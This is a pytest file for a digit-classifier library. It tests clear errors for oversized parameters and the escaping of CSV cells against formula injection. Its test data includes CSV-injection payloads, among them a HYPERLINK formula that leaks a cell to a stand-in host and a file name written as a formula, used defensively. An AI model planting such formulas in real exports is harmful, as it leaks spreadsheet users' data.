"""Values past what the engine can hold get clear errors; CSV cells stay text.

Before: ``--param max_iter=<22 digits>`` ended in an OverflowError traceback,
``hidden_layer_sizes=[2**70]`` in torch's C++ stack, and a class label
``=HYPERLINK(...)`` became a live formula in the CSV of ``skmnist predict``.
"""

import contextlib
import csv
import io
import time
import warnings

import numpy as np
import pytest
from sklearn.utils._param_validation import InvalidParameterError

import skmnist._training.fit
from skmnist import MLPDigitClassifier
from skmnist.cli import main
from skmnist.cli._output import csv_cell
from skmnist.datasets import load_mnist
from skmnist.persistence import save_model

HUGE = 1234567890123456789012  # 22 digits, past int64


def run(*argv):
    """``skmnist ARGV`` in this process: status, stdout, stderr lines."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main([str(arg) for arg in argv])
    return status, out.getvalue(), err.getvalue().strip().splitlines()


def assert_one_error_line(lines, *fragments):
    errors = [line for line in lines if line.startswith("skmnist: error: ")]
    assert len(errors) == 1, lines
    assert not any("Traceback" in line or "frame #" in line for line in lines)
    for fragment in fragments:
        assert fragment in errors[0], errors[0]


@pytest.fixture(scope="module")
def sample():
    X, y = load_mnist(subset="train", source="sample", return_X_y=True)
    return X[:300].astype(np.float32) / 255, y[:300]


@pytest.fixture
def fitted(sample):
    X, y = sample
    model = MLPDigitClassifier(
        hidden_layer_sizes=(8,), max_iter=2, random_state=0, device="cpu"
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # two epochs do not converge
        return model.fit(X, y)


# --------------------------------------------------------- values too large
@pytest.mark.parametrize(
    ("param", "value", "match"),
    [
        ("max_iter", HUGE, "'max_iter' parameter .* range \\[1, 2147483647\\]"),
        ("hidden_layer_sizes", [2**70], "hidden_layer_sizes must be .* at most"),
        ("hidden_layer_sizes", (64, 2**63), "hidden_layer_sizes must be .* at most"),
        ("class_weight", {0: 10**400}, "class_weight must map .* for class 0"),
        ("class_weight", {0: np.inf}, "class_weight must map .* got inf"),
        ("class_weight", {0: -1.0}, "class_weight must map .* got -1.0"),
    ],
)
def test_values_past_the_engine_are_refused_naming_the_parameter(
    sample, fitted, param, value, match
):
    X, y = sample
    before = [c.copy() for c in fitted.coefs_]
    with pytest.raises(InvalidParameterError, match=match):
        MLPDigitClassifier(**{param: value}, device="cpu").fit(X, y)
    fitted.set_params(**{param: value})
    with pytest.raises(InvalidParameterError, match=match):
        fitted.fit(X, y)
    for old, new in zip(before, fitted.coefs_, strict=True):
        np.testing.assert_array_equal(old, new)  # left as it was


def test_a_network_larger_than_memory_is_refused_before_torch_builds_it(
    sample, fitted, monkeypatch
):
    """Two layers of 2**31 - 1: 4.6e18 weights, refused unbuilt.

    Before, torch was asked for the first layer's 6 TB: a host that
    overcommits memory grants it, and the process is killed while the
    weights are initialised.
    """
    X, y = sample
    built = []
    monkeypatch.setattr(skmnist._training.fit, "build_mlp", lambda **a: built.append(a))
    before = [c.copy() for c in fitted.coefs_]
    fitted.set_params(hidden_layer_sizes=[2**31 - 1, 2**31 - 1])
    start = time.perf_counter()
    with pytest.raises(MemoryError, match=r"network has 4,611,68.* hidden_layer_sizes"):
        fitted.fit(X, y)
    assert time.perf_counter() - start < 10
    assert built == []
    for old, new in zip(before, fitted.coefs_, strict=True):
        np.testing.assert_array_equal(old, new)


def test_the_largest_max_iter_still_trains(sample):
    X, y = sample
    model = MLPDigitClassifier(
        hidden_layer_sizes=(4,),
        max_iter=2**31 - 1,
        tol=1e9,  # no epoch gains 1e9: stops after a few
        n_iter_no_change=1,
        device="cpu",
    ).fit(X, y)
    assert model.n_iter_ <= 3  # stopped by tol, not by max_iter


@pytest.mark.parametrize(
    "param",
    [
        f"max_iter={HUGE}",
        f"hidden_layer_sizes={2**70}",
        f"hidden_layer_sizes=64,{2**70}",
        "class_weight={0: 1e400}",
        f"class_weight={{0: {10**400}}}",
    ],
)
def test_cli_values_past_the_engine_are_usage_errors(tmp_path, param):
    """Refused before any data is loaded, with exit status 2."""
    out = tmp_path / "model.skmnist"
    status, _, lines = run(
        "train", "--source", "sample", "--param", param, "--out", out
    )
    assert status == 2
    assert_one_error_line(lines, "invalid --param value", param.partition("=")[0])
    assert not out.exists()


def test_cli_random_state_past_numpys_seeds_is_a_usage_error(tmp_path, capsys):
    status = main(["train", "--random-state", str(2**70), "--out", str(tmp_path)])
    assert status == 2
    err = capsys.readouterr().err
    assert "--random-state: expected an integer from 0 to 4294967295" in err


def test_cli_network_larger_than_memory_is_one_line(tmp_path):
    out = tmp_path / "model.skmnist"
    status, _, lines = run(
        "train",
        "--source",
        "sample",
        "--quiet",
        "--param",
        f"hidden_layer_sizes={2**31 - 1},{2**31 - 1}",
        "--out",
        out,
    )
    assert status == 1
    assert_one_error_line(lines, "out of memory", "hidden_layer_sizes")
    assert not out.exists()


# ------------------------------------------------------------ CSV injection
LABELS = np.array(
    [
        '=HYPERLINK("http://example.com/?leak="&A1,"zero")',
        "+one",
        "-two",
        "@SUM(1+2)",
        "\tfour",
        "\rfive",
        "six",
        "=7",
        "eight",
        "nine",
    ],
    dtype=object,
)


@pytest.fixture(scope="module")
def string_label_model(tmp_path_factory):
    X, y = load_mnist(subset="train", source="sample", return_X_y=True)
    model = MLPDigitClassifier(hidden_layer_sizes=(32,), max_iter=5, random_state=0)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model.fit(X[:1000].astype(np.float32) / 255, LABELS[y[:1000]])
    path = tmp_path_factory.mktemp("model") / "labels.skmnist"
    save_model(model, path)
    return path, model


@pytest.mark.parametrize("to_file", [False, True])
def test_predict_csv_cells_never_become_formulas(
    string_label_model, tmp_path, monkeypatch, to_file
):
    path, model = string_label_model
    X, _ = load_mnist(subset="test", source="sample", return_X_y=True)
    X = X[:300].astype(np.float32) / 255
    monkeypatch.chdir(tmp_path)
    np.save(tmp_path / "=1+2.npy", X)  # a file name can be a formula too
    output = ["--output", "predictions.csv"] if to_file else []
    status, out, lines = run("predict", path, "=1+2.npy", "--proba", *output)
    assert status == 0, lines
    text = (tmp_path / "predictions.csv").read_text() if to_file else out
    rows = list(csv.DictReader(io.StringIO(text)))
    expected = model.predict(X)
    assert [row["prediction"] for row in rows] == [csv_cell(s) for s in expected]
    assert {row["source"] for row in rows} == {"'=1+2.npy"}
    formulas = [row["prediction"] for row in rows if row["prediction"][0] in "=+-@\t\r"]
    assert formulas == []  # none left as a formula ...
    quoted = {row["prediction"] for row in rows if row["prediction"].startswith("'")}
    assert len(quoted) >= 3  # ... and the test saw several of them
    assert {row["prediction"] for row in rows} - quoted <= {"six", "eight", "nine"}


def test_csv_cell_follows_owasp():
    for start in ("=", "+", "-", "@", "\t"):
        assert csv_cell(f"{start}x") == f"'{start}x"
    assert csv_cell("x=1") == "x=1"
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5
    assert csv_cell(np.str_("=A1")) == "'=A1"
    # A bare carriage return would start a new row in a spreadsheet.
    assert csv_cell("x\r=A1") == "x\n=A1"
    assert csv_cell("\r=A1") == "'\n=A1"
